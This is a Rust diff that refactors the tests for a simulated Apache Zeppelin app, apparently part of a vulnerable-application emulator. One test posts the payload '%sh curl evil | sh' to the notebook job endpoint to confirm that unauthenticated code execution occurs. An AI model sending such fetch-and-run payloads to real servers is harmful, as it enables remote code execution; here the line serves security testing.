@@ -92,8 +92,9 @@ impl_webapp!(Zeppelin);
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::traits::{get, post, WebApp};
+    use crate::traits::{Driver, WebApp};
     use crate::version::release_history;
+    const DRIVER: Driver = Driver::new();
 
     fn default_latest() -> Zeppelin {
         let v = *release_history(AppId::Zeppelin).last().unwrap();
@@ -104,7 +105,7 @@ mod tests {
     fn open_by_default_with_status_ok() {
         let mut app = default_latest();
         assert!(app.is_vulnerable());
-        let body = get(&mut app, "/api/notebook").response.body_text();
+        let body = DRIVER.get(&mut app, "/api/notebook").response.body_text();
         assert!(body.starts_with("{\"status\":\"OK\","), "{body}");
     }
 
@@ -113,7 +114,7 @@ mod tests {
         let v = *release_history(AppId::Zeppelin).last().unwrap();
         let mut app = Zeppelin::new(v, AppConfig::secure_for(AppId::Zeppelin, &v));
         assert!(!app.is_vulnerable());
-        let out = get(&mut app, "/api/notebook");
+        let out = DRIVER.get(&mut app, "/api/notebook");
         assert_eq!(out.response.status.as_u16(), 403);
         assert!(!out.response.body_text().starts_with("{\"status\":\"OK\","));
     }
@@ -121,8 +122,8 @@ mod tests {
     #[test]
     fn paragraph_run_is_code_execution() {
         let mut app = default_latest();
-        let _ = post(&mut app, "/api/notebook", "{\"name\":\"n\"}");
-        let out = post(&mut app, "/api/notebook/job/note-1", "%sh curl evil | sh");
+        let _ = DRIVER.post(&mut app, "/api/notebook", "{\"name\":\"n\"}");
+        let out = DRIVER.post(&mut app, "/api/notebook/job/note-1", "%sh curl evil | sh");
         assert!(matches!(
             &out.events[0],
             AppEvent::CommandExecuted { command } if command.contains("%sh")
@@ -132,7 +133,7 @@ mod tests {
     #[test]
     fn ui_has_angular_markers() {
         let mut app = default_latest();
-        let body = get(&mut app, "/").response.body_text();
+        let body = DRIVER.get(&mut app, "/").response.body_text();
         assert!(body.contains("zeppelinWebApp"));
         assert!(body.contains("Apache Zeppelin"));
     }
